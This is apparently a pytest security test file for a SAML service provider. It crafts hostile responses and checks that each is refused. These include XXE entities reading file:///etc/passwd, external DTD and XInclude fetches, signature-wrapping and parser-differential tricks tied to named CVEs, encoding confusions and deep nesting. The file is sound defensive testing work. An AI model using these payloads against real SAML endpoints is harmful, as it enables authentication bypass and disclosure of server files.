"""SAML-B10 to B19 and B24 to B29: document types, entities, encodings and shapes on which two parsers disagree."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from tests.attacks.saml.limits import bounded
from tests.attacks.saml.listener import Listener
from tests.attacks.saml.oracle import ALL, PLAIN, Case, check, honest, outcome_of, over, refused, rows, unchanged
from tests.attacks.saml.ring import Scene, ring
from tests.attacks.saml.tearing import Element, assertion_of, clone, forged, rewrite, signature_of, strip
from tests.fakes import saml_names as n
from tests.fakes.saml_sign import ByHand, rsa_signer, sign_by_hand

SECRETS = ("canary-in-a-file", "root:x:0")


def text(change: Callable[[str], str]) -> Callable[[Scene], bytes]:
    """A change of the document's characters; it must change something."""

    def craft(scene: Scene) -> bytes:
        before = scene.document.decode()
        after = change(before)
        assert after != before
        return after.encode("utf-8", "surrogatepass")

    return craft


def doctype(subset: str, name: str = "samlp:Response") -> Callable[[Scene], bytes]:
    return text(lambda document: f"<!DOCTYPE {name} [{subset}]>" + document)


def supplied_request(scene: Scene) -> bytes:
    """An assertion that nobody asked for, and a document type that supplies whose question it answers."""
    unasked = scene.idp.respond(replace(scene.answer, in_response_to=None), scene.base)
    pending = scene.ring.asked.request_id
    attlist = (
        f'<!ATTLIST samlp:Response InResponseTo CDATA "{pending}"><!ATTLIST saml:SubjectConfirmationData InResponseTo CDATA "{pending}">'
    )
    return f"<!DOCTYPE samlp:Response [{attlist}]>".encode() + unasked


def fixed_namespace(scene: Scene) -> bytes:
    """A fake Signature that is one only where #FIXED attributes are believed (CVE-2025-25292)."""
    root = strip(scene.tree())
    good = assertion_of(root)
    n.find(root, "samlp:Status").append(n.xml("<samlp:StatusDetail><Signature/></samlp:StatusDetail>"))
    rewrite(good)
    good.set("example", "http://example.com\u0080")
    subset = f'<!ATTLIST Signature xmlns CDATA #FIXED "{n.DS}"><!ATTLIST Signature xmlns CDATA "block">'
    return f"<!DOCTYPE samlp:Response [{subset}]>".encode() + n.serialize(root)


def quoted_system(scene: Scene) -> bytes:
    """Quotes in the system id, so that one parser begins a comment where another begins a document (CVE-2025-25291)."""
    good = scene.document.decode()
    evil = n.serialize(rewrite(scene.tree())).decode()
    open_end = evil.removesuffix("</samlp:Response>")
    return f"<!DOCTYPE response SYSTEM 'x\"><!--'>{open_end}<![CDATA[-->{good}<!--]]>--></samlp:Response>".encode()


def id_through_entity(scene: Scene) -> bytes:
    """An ID behind an entity: resolved by one reader, looked up by another (CVE-2025-23369)."""
    root = strip(scene.tree())
    good = assertion_of(root)
    evil = forged(good, good.get("ID", "") + "ffff")
    signature = clone(signature_of(good))
    root.replace(good, evil)
    holder = n.xml("<ds:Object/>")
    holder.append(good)
    signature.append(holder)
    evil.insert(1, signature)
    body = n.serialize(root).decode().replace(f'ID="{root.get("ID")}"', 'ID="&idViaEntity;"', 1)
    return f'<!DOCTYPE samlp:Response [<!ENTITY idViaEntity "{root.get("ID")}">]>{body}'.encode()


def entity_name(declaration: str) -> Callable[[Scene], bytes]:
    def change(document: str) -> str:
        return f"<!DOCTYPE samlp:Response [{declaration}]>" + document.replace(">alice@corp.example</saml:NameID>", ">&x;</saml:NameID>")

    return text(change)


def encoded(codec: str, declaration: str = "", mark: bytes = b"") -> Callable[[Scene], bytes]:
    return lambda scene: mark + (declaration + scene.document.decode()).encode(codec)


def octets(old: bytes, new: bytes) -> Callable[[Scene], bytes]:
    def craft(scene: Scene) -> bytes:
        assert old in scene.document
        return scene.document.replace(old, new, 1)

    return craft


def edited(path: str, **attributes: str) -> Callable[[Scene], bytes]:
    """Attributes that the IdP itself signs on an element."""

    def craft(scene: Scene) -> bytes:
        def edit(root: Element) -> None:
            for name, value in attributes.items():
                n.find(root, path).set(name.replace("xsi_", f"{{{n.XSI}}}"), value)

        return scene.signed(edit)

    return craft


def signed_ids(response_id: str, assertion_id: str) -> Callable[[Scene], Element]:
    """The IdP's own key on elements of these ids, by hand: a library would not sign some of them."""

    def craft(scene: Scene) -> Element:
        root = n.parse(replace(scene.answer, response_id=response_id, assertion_id=assertion_id).response().encode())
        how = ByHand(rsa_signer(scene.idp.key))
        if scene.base != "G-R":
            sign_by_hand(assertion_of(root), how)
        if scene.base != "G-A":
            sign_by_hand(root, how)
        return root

    return craft


XSI_TYPE = 'xsi:type="saml:NameIDType" xmlns:xsi="' + n.XSI + '"'
DOCTYPES = [
    Case("B10", "no subset", text(lambda d: "<!DOCTYPE r>" + d), ALL),
    Case("B10", "empty subset", doctype(""), ALL),
    Case("B10", "lower case", text(lambda d: "<!doctype r>" + d), ALL),
    Case("B10", "after a declaration", text(lambda d: '<?xml version="1.0"?>\n<!DOCTYPE r>\n' + d), ALL),
    Case("B10", "utf-16", encoded("utf-16", "<!DOCTYPE r>"), ALL),
    Case("B11", "", doctype('<!ATTLIST saml:NameID SPNameQualifier CDATA "https://evil.example">'), ALL),
    Case("B12", "", supplied_request, ("G-A", "G-B", "G-EA"), modes=("sp/off", "sp/on")),
    Case("B13", "", fixed_namespace, ("G-A",)),
    Case("B14", "", quoted_system, PLAIN),
    Case("B15", "", id_through_entity, ("G-A",)),
    Case("B16", "", entity_name('<!ENTITY x "admin@corp.example">'), PLAIN),
    Case("B16", "the honest words", entity_name('<!ENTITY x "alice@corp.example">'), PLAIN),
]
SHAPES = [
    Case("B24", "utf-16", encoded("utf-16"), PLAIN, unchanged),
    Case("B24", "utf-16 declared", encoded("utf-16", '<?xml version="1.0" encoding="UTF-16"?>'), PLAIN, unchanged),
    Case("B24", "utf-7 declared", encoded("ascii", '<?xml version="1.0" encoding="UTF-7"?>'), PLAIN),
    Case("B24", "utf-7", encoded("utf-7", '<?xml version="1.0" encoding="UTF-7"?>'), PLAIN),
    Case("B24", "mark against declaration", encoded("utf-8", '<?xml version="1.0" encoding="UTF-16"?>', b"\xef\xbb\xbf"), PLAIN, unchanged),
    Case("B24", "latin-1", octets(b"alice@", b"al\xefce@"), PLAIN),
    Case("B24", "overlong", octets(b"alice@corp", b"alice\xc1\x80corp"), PLAIN),
    Case("B24", "surrogate", octets(b"alice@", b"alice\xed\xa0\x80@"), PLAIN),
    Case("B24", "nul", octets(b"alice@", b"alice\x00@"), PLAIN),
    Case("B24", "nul as a reference", octets(b"alice@", b"alice&#0;@"), PLAIN),
    Case("B25", "two roots", lambda s: s.document + s.document, ALL),
    Case("B25", "evil root first", lambda s: n.serialize(rewrite(s.unsigned())) + s.document, ALL),
    Case("B25", "junk before", lambda s: b"junk" + s.document, ALL),
    Case("B25", "junk after", lambda s: s.document + b"junk", ALL),
    Case("B25", "white space", lambda s: b" \n" + s.document + b"\n", ALL, unchanged),
    Case("B25", "comment after", lambda s: s.document + b"<!-- x -->", ALL, unchanged),
    Case("B25", "instruction before", lambda s: b"<?x y?>" + s.document, ALL, unchanged),
    Case("B26", "nil assertion", edited("saml:Assertion", xsi_nil="true")),
    Case("B26", "nil name", edited(".//saml:NameID", xsi_nil="true")),
    Case("B26", "assertion of another type", edited("saml:Assertion", xsi_type="saml:AdviceType")),
    Case("B26", "type after signing", octets(b"<saml:NameID ", f"<saml:NameID {XSI_TYPE} ".encode()), PLAIN),
    Case("B27", "attribute of colons", octets(b"<saml:Assertion ", b'<saml:Assertion ::attr="x" '), PLAIN),
    Case("B27", "element of colons", octets(b"<saml:Subject>", b"<saml::Subject>"), PLAIN),
    Case("B27", "prefix of nothing", octets(b"<saml:Subject>", b"<:Subject>"), PLAIN),
    Case("B27", "directive", octets(b"<saml:Subject>", b"<!x><saml:Subject>"), PLAIN),
    Case("B27", "directive with comment", octets(b"<saml:Subject>", b"<! <<!-- -->!-- x --><saml:Subject>"), PLAIN),
    Case("B29", "attribute twice", octets(b' Version="2.0"', b' Version="2.0" Version="2.0"'), ALL),
    Case(
        "B29",
        "attribute twice by prefix",
        octets(b' Version="2.0"', b' xmlns:a="urn:x" xmlns:b="urn:x" a:v="1" b:v="2" Version="2.0"'),
        ALL,
    ),
    Case("B29", "unbound prefix", octets(b"<saml:Subject>", b"<nobody:x/><saml:Subject>"), PLAIN),
    Case("B29", "id begins with a digit", signed_ids("1abc", "2abc"), PLAIN),
    Case("B29", "id with a space", signed_ids("a b", "c d"), PLAIN),
    Case("B29", "id empty", signed_ids("_r1", ""), ("G-R",)),
    Case("B29", "id shared", signed_ids("_same", "_same"), PLAIN),
]


@over(DOCTYPES)
def test_a_document_type_is_refused_before_anything_parses(case: Case) -> None:
    check(case)


@over(SHAPES)
def test_a_shape_that_two_parsers_may_read_in_two_ways_is_refused(case: Case) -> None:
    check(case)


def declarations(listener: Listener, secret_file: Path) -> dict[str, str]:
    url = listener.url
    return {
        "B17 file": f'<!ENTITY x SYSTEM "{secret_file.as_uri()}">',
        "B17 passwd": '<!ENTITY x SYSTEM "file:///etc/passwd">',
        "B18 entity": f'<!ENTITY x SYSTEM "{url}/entity">',
        "B18 public entity": f'<!ENTITY x PUBLIC "-//x//y" "{url}/public">',
        "B18 parameter entity": f'<!ENTITY % p SYSTEM "{url}/parameter"> %p; <!ENTITY x "y">',
    }


@rows("B17", "B18")
@pytest.mark.parametrize("which", ["B17 file", "B17 passwd", "B18 entity", "B18 public entity", "B18 parameter entity"])
def test_an_external_entity_is_neither_read_nor_fetched(which: str, listener: Listener, secret_file: Path) -> None:
    case = Case(which[:3], which[4:], entity_name(declarations(listener, secret_file)[which]), PLAIN)
    check(case)
    for scene in case.scenes():
        told = repr(vars(outcome_of(scene.ring, case.craft(scene) or b"")))
        assert not any(secret in told for secret in SECRETS)


@rows("B18", "B26")
def test_an_external_document_type_or_schema_is_not_fetched(listener: Listener) -> None:
    url = listener.url
    check(Case("B18", "external subset", text(lambda d: f'<!DOCTYPE r SYSTEM "{url}/dtd">' + d), ALL))
    location = edited("saml:Assertion", xsi_schemaLocation=f"{n.SAML} {url}/schema.xsd")
    check(Case("B26", "schema location", location, PLAIN, unchanged))
    bare = edited(".//saml:AttributeValue", xsi_noNamespaceSchemaLocation=f"{url}/schema.xsd")
    check(Case("B26", "schema location on a value", bare, PLAIN, unchanged))


@rows("B26")
def test_a_nil_value_is_no_value() -> None:
    """xsi:nil on an attribute value: refused, or the attribute has not that value; the rest is as ever."""
    scene = Scene(ring(), "G-B")
    outcome = outcome_of(scene.ring, edited(".//saml:AttributeValue", xsi_nil="true")(scene))
    if not isinstance(outcome, Exception):
        assert "alice@corp.example" not in outcome.attributes.get("email", ())
    honest(scene, outcome_of(scene.ring, scene.document))


@rows("B19")
@pytest.mark.parametrize("parse_as", ["text", "xml"])
def test_an_inclusion_is_not_followed(parse_as: str, listener: Listener, secret_file: Path) -> None:
    for target in (secret_file.as_uri(), listener.url + "/include"):
        include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{target}" parse="{parse_as}"/>'
        check(Case("B19", "after", octets(b">alice@corp.example</saml:NameID>", f">{include}</saml:NameID>".encode()), PLAIN))

        def signed(scene: Scene, include: str = include) -> bytes:
            return scene.signed(lambda root: n.find(root, ".//saml:NameID").append(n.xml(include)))

        check(Case("B19", "signed", signed, PLAIN, refused))


@rows("B28")
@pytest.mark.parametrize("depth", [300, 20_000, 1_000_000])
def test_deep_nesting_costs_little_and_overflows_nothing(depth: int) -> None:
    scene = Scene(ring(), "G-B")
    deep = b"<samlp:Extensions>" + b"<a>" * depth + b"</a>" * depth + b"</samlp:Extensions>"
    message = scene.document.replace(b"<samlp:Status>", deep + b"<samlp:Status>", 1)
    with bounded():
        outcome = outcome_of(scene.ring, message)
    refused(scene, outcome)
    honest(scene, outcome_of(scene.ring, scene.document))
